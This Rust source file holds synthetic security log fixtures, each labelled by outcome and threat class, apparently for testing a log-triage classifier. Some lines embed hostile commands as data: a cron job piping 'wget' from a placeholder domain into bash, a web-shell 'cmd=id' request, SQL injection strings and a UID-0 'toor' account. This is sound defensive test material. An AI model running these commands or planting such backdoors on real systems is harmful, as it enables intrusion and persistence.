//! Sets written around the reading of stems.

use vedette_event::ThreatClass::{
    BruteForce, CommandAndControl, DefenseEvasion, DenialOfService, Exfiltration, Exploitation,
    LateralMovement, Malware, Persistence, Phishing, PolicyViolation, PrivilegeEscalation,
    Ransomware, Reconnaissance, WebAttack,
};

use super::{Act, Contained, Expected, Faulty, Human, Story};

/// Written before signs were read by stems and by the names of keys: products of no other set.
pub(crate) const STEMS: &[Story] = &[
    (
        Contained,
        Malware,
        &[
            "{host} esets[210]: on-access scanner, file /home/{user}/setup.bin, threat Win32/Agent.NX trojan, action isolated to vault",
        ],
    ),
    (
        Contained,
        BruteForce,
        &[
            "{host} vsftpd[81]: [{user}] FAIL LOGIN: Client \"{ip}\"",
            "{host} vsftpd[81]: [{user}] FAIL LOGIN: Client \"{ip}\"",
            "{host} crowdsec-bouncer: decision added for {ip}, remediation refused until 02:11",
        ],
    ),
    (
        Contained,
        WebAttack,
        &[
            "{host} haproxy[9]: {ip}:50112 [03/Nov] fe~ fe/<NOSRV> 0/-1/-1 403 192 - - PR-- 1/1/0/0/0 0/0 \"GET /?q=%27or+1=1 HTTP/1.1\"",
            "{host} haproxy[9]: {ip}:50113 [03/Nov] fe~ fe/<NOSRV> 0/-1/-1 403 192 - - PR-- 1/1/0/0/0 0/0 \"GET /?q=%27-- HTTP/1.1\"",
        ],
    ),
    (
        Contained,
        Reconnaissance,
        &[
            "{host} RT_FLOW: RT_FLOW_SESSION_DENY: session denied {ip}/40211->{lan}/22 junos-ssh 6(0) default-deny untrust trust",
            "{host} RT_FLOW: RT_FLOW_SESSION_DENY: session denied {ip}/40212->{lan}/23 junos-telnet 6(0) default-deny untrust trust",
        ],
    ),
    (
        Contained,
        Phishing,
        &[
            "{\"operation\":\"PostDelivery\",\"recipient\":\"{user}@example.com\",\"senderDomain\":\"{domain}\",\"deliveryAction\":\"Junked\",\"remediationStatus\":\"Purged\"}",
        ],
    ),
    (
        Contained,
        DenialOfService,
        &[
            "{host} httpd[4]: mod_evasive: client {ip} throttled, 4021 requests answered 429",
            "{host} httpd[4]: mod_evasive: client {ip} throttled, 3982 requests answered 429",
        ],
    ),
    (
        Contained,
        Exploitation,
        &[
            "CEF:0|Tipping|SMS|5|7610|HTTP: Server Exploit|8|act=Block src={ip} dst={lan} dpt=443 cs1=Recommended",
        ],
    ),
    (
        Contained,
        CommandAndControl,
        &[
            "{\"policy\":\"Security Categories\",\"internalIp\":\"{lan}\",\"domain\":\"a.{domain}\",\"verdict\":\"refused\",\"categories\":\"Command and Control\"}",
        ],
    ),
    (
        Act,
        BruteForce,
        &[
            "{host} openvpn[7]: {ip}:51820 TLS Auth Error: Auth Username/Password verification failed for peer",
            "{host} openvpn[7]: {ip}:51821 TLS Auth Error: Auth Username/Password verification failed for peer",
            "{host} openvpn[7]: {ip}:51822 [{user}] Peer Connection Initiated with [AF_INET]{ip}:51822",
        ],
    ),
    (
        Act,
        Malware,
        &[
            "{\"agent\":\"{host}\",\"detection\":\"Gen:Variant.Kryptik\",\"path\":\"C:\\\\Users\\\\{user}\\\\a.exe\",\"mitigationStatus\":\"not_mitigated\",\"confidence\":\"malicious\"}",
        ],
    ),
    (
        Act,
        CommandAndControl,
        &[
            "CEF:0|Fidelis|Network|9|12|Periodic TLS session to rare host|7|act=allowed src={lan} dst={ip} dpt=443 out=88211",
        ],
    ),
    (
        Act,
        Exfiltration,
        &[
            "{\"dlpRule\":\"Customer list\",\"user\":\"{user}\",\"channel\":\"webmail\",\"bytes\":91823311,\"enforcement\":\"logged only\"}",
        ],
    ),
    (
        Act,
        DefenseEvasion,
        &[
            "{host} auditd[5]: type=DAEMON_END msg=audit(1762135864.1:9): op=terminate auid=0 pid=812 res=success",
        ],
    ),
    (
        Act,
        WebAttack,
        &[
            "{ip} - - [03/Nov/2026:02:11:04 +0000] \"POST /admin/upload HTTP/1.1\" 201 88 \"-\" \"python-requests\"",
            "{ip} - - [03/Nov/2026:02:11:09 +0000] \"GET /files/x.jsp?cmd=id HTTP/1.1\" 200 51 \"-\" \"python-requests\"",
        ],
    ),
    (
        Act,
        Persistence,
        &["{host} crond[3]: ({user}) REPLACE (* * * * * wget -qO- http://{domain}/i | bash)"],
    ),
    (
        Act,
        Ransomware,
        &[
            "{host} smbd_audit: {user}|{lan}|{host}|rename|ok|q3.xlsx|q3.xlsx.crypt",
            "{host} smbd_audit: {user}|{lan}|{host}|rename|ok|q4.xlsx|q4.xlsx.crypt",
        ],
    ),
    (
        Expected,
        Reconnaissance,
        &[
            "{lan} - - [03/Nov/2026:02:00:01 +0000] \"GET /phpinfo.php HTTP/1.1\" 404 0 \"-\" \"InsightVM scheduled assessment\"",
            "{lan} - - [03/Nov/2026:02:00:02 +0000] \"GET /.env HTTP/1.1\" 404 0 \"-\" \"InsightVM scheduled assessment\"",
        ],
    ),
    (
        Expected,
        Exfiltration,
        &["{host} duplicati: scheduled backup job to {lan} completed, 81 GB uploaded"],
    ),
    (
        Expected,
        LateralMovement,
        &["{host} pdq-deploy: package \"Office patch\" deployed to {lan} as {user}, exit 0"],
    ),
    (
        Expected,
        DefenseEvasion,
        &["{host} esets[210]: module update finished, detection engine 30112 installed"],
    ),
    (
        Expected,
        BruteForce,
        &["{host} checkmk: service ssh probed from {lan}: OK - banner answered in 3 ms"],
    ),
    (
        Faulty,
        BruteForce,
        &[
            "{host} slapd[12]: conn=88 op=0 BIND dn=\"cn=printer\" err=49 text=stored credentials are stale",
            "{host} slapd[12]: conn=89 op=0 BIND dn=\"cn=printer\" err=49 text=stored credentials are stale",
        ],
    ),
    (
        Faulty,
        CommandAndControl,
        &["{host} ntpd[6]: no reply from configured server {lan}, retrying, wrong key id 4"],
    ),
    (
        Faulty,
        DenialOfService,
        &["{host} mysqld[4]: Too many connections: pool of app on {lan} never closes sessions"],
    ),
    (
        Faulty,
        Exploitation,
        &[
            "{host} nginx[7]: SSL_do_handshake() failed (no shared cipher) while SSL handshaking, client: {lan}",
        ],
    ),
    (
        Human,
        PolicyViolation,
        &["{host} netskope: user {user} opened personal storage app from {lan}, activity Browse"],
    ),
    (Human, LateralMovement, &["{host} xrdp-sesman[9]: session started for user {user} from {ip}"]),
    (
        Human,
        Persistence,
        &[
            "{\"eventName\":\"CreateUser\",\"eventSource\":\"iam.amazonaws.com\",\"userName\":\"{user}\",\"sourceIPAddress\":\"{ip}\"}",
        ],
    ),
];

/// Written when stems were read and before anything was measured on it: products of no other set.
pub(crate) const LAST: &[Story] = &[
    (
        Contained,
        Malware,
        &[
            "{host} fsecure: {user} opened invoice.iso: infection Trojan.Lnk, harmful content has been blocked",
        ],
    ),
    (
        Contained,
        Malware,
        &[
            "{\"vendor\":\"cybereason\",\"machine\":\"{host}\",\"malop\":\"Ransomware behaviour\",\"preventionAction\":\"PREVENTED\"}",
        ],
    ),
    (
        Contained,
        BruteForce,
        &[
            "{host} proftpd[8]: {lan} ({ip}[{ip}]) - USER {user} (Login failed): Incorrect password",
            "{host} proftpd[8]: {lan} ({ip}[{ip}]) - Maximum login attempts (3) exceeded, connection refused",
        ],
    ),
    (
        Contained,
        WebAttack,
        &[
            "{host} barracuda: {ip} {lan} SQL_INJECTION_IN_PARAM ALERT DENY NONE [type=\"sql-injection\"] GET /shop",
        ],
    ),
    (
        Contained,
        Reconnaissance,
        &[
            "{host} mikrotik: drop-wan input: in:ether1 out:(unknown 0), proto TCP (SYN), {ip}:4401->{lan}:8291, len 44",
        ],
    ),
    (
        Contained,
        Exploitation,
        &[
            "{host} stormshield: logtype=\"alarm\" action=block msg=\"HTTP: exploit attempt\" src={ip} dst={lan} dstport=80",
        ],
    ),
    (
        Contained,
        CommandAndControl,
        &[
            "{\"product\":\"nextdns\",\"device\":\"{host}\",\"domain\":\"x.{domain}\",\"status\":\"blocked\",\"reasons\":[\"threat feed\"]}",
        ],
    ),
    (
        Contained,
        Phishing,
        &[
            "{host} mimecast: acc=C1 aCode=x act=Rej Sender=a@{domain} Recipient={user}@example.com RejType=\"Virus Signature Detection\"",
        ],
    ),
    (
        Contained,
        DenialOfService,
        &["{host} ddos-guard: SYN flood from {ip} scrubbed, 31 Gbit/s dropped at the edge"],
    ),
    (
        Act,
        BruteForce,
        &[
            "{host} guacd[4]: user {user} from {ip}: authentication attempt failed",
            "{host} guacd[4]: user {user} from {ip}: authentication attempt failed",
            "{host} guacd[4]: user {user} successfully authenticated from {ip}",
        ],
    ),
    (
        Act,
        Malware,
        &[
            "{\"sensor\":\"{host}\",\"threat\":\"Cobalt.Beacon\",\"process\":\"rundll32.exe\",\"response\":\"detect-only policy, nothing done\"}",
        ],
    ),
    (
        Act,
        CommandAndControl,
        &[
            "{host} watchguard: Allow {lan} {ip} https/tcp 50112 443 msg=\"Application identified: tunnel\" sent_bytes=\"9912\"",
        ],
    ),
    (
        Act,
        Exfiltration,
        &[
            "{host} sftp-server[6]: close \"/finance/all.zip\" bytes read 7712290011 written 0 by {user} from {ip}",
        ],
    ),
    (
        Act,
        WebAttack,
        &[
            "{ip} - - [03/Nov/2026:02:11:04 +0000] \"GET /login?u=1%27%20UNION%20SELECT%20pass HTTP/1.1\" 200 48211 \"-\" \"sqlmap/1.8\"",
        ],
    ),
    (
        Act,
        PrivilegeEscalation,
        &[
            "{host} pkexec[9]: {user}: Executing command [USER=root] [TTY=unknown] [CWD=/tmp/.x] [COMMAND=/bin/sh]",
        ],
    ),
    (
        Act,
        DefenseEvasion,
        &[
            "{\"EventID\":4719,\"Computer\":\"{host}\",\"SubjectUserName\":\"{user}\",\"AuditPolicyChanges\":\"Success removed, Failure removed\"}",
        ],
    ),
    (
        Act,
        Persistence,
        &["{host} useradd[7]: new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash"],
    ),
    (
        Act,
        LateralMovement,
        &[
            "{\"EventID\":4648,\"Computer\":\"{host}\",\"SubjectUserName\":\"{user}\",\"TargetServerName\":\"dc1\",\"ProcessName\":\"wmic.exe\"}",
        ],
    ),
    (
        Expected,
        Reconnaissance,
        &["{host} arpwatch: host {lan} swept 254 addresses, agent lansweeper inventory"],
    ),
    (
        Expected,
        Exfiltration,
        &["{host} synology-hyperbackup: task Offsite finished, 44 GB sent to {lan}"],
    ),
    (
        Expected,
        LateralMovement,
        &[
            "{host} sshd[5]: Accepted publickey for jenkins from {lan} port 4011 ssh2: RSA SHA256:aa",
        ],
    ),
    (
        Expected,
        DenialOfService,
        &["{host} k6: load test run 88 against {lan}, 4000 virtual users, planned"],
    ),
    (
        Expected,
        DefenseEvasion,
        &["{host} sentinelctl: agent upgrade to 24.1 done, protection restarted"],
    ),
    (
        Faulty,
        BruteForce,
        &[
            "{host} smbd[4]: check_ntlm_password: authentication for user [scanner] from {lan} FAILED, NT_STATUS_PASSWORD_EXPIRED",
            "{host} smbd[4]: check_ntlm_password: authentication for user [scanner] from {lan} FAILED, NT_STATUS_PASSWORD_EXPIRED",
        ],
    ),
    (
        Faulty,
        Exfiltration,
        &["{host} rsyslogd: action 'fwd' suspended, cannot connect to {lan}:514, queue growing"],
    ),
    (
        Faulty,
        CommandAndControl,
        &["{host} chronyd[3]: Could not resolve time.example.com, source {lan} unreachable"],
    ),
    (
        Faulty,
        Exploitation,
        &[
            "{host} kernel: usb 1-2: device descriptor read error, protocol -71, mail gateway {lan} reset",
        ],
    ),
    (Human, PolicyViolation, &["{host} papercut: {user} printed 812 pages on lobby from {lan}"]),
    (
        Human,
        LateralMovement,
        &[
            "{host} strongswan[4]: authentication of '{user}' with EAP successful, assigned {lan}, peer {ip}",
        ],
    ),
    (Human, Persistence, &["{host} gitlab: user {user} created deploy key 'temp' from {ip}"]),
];
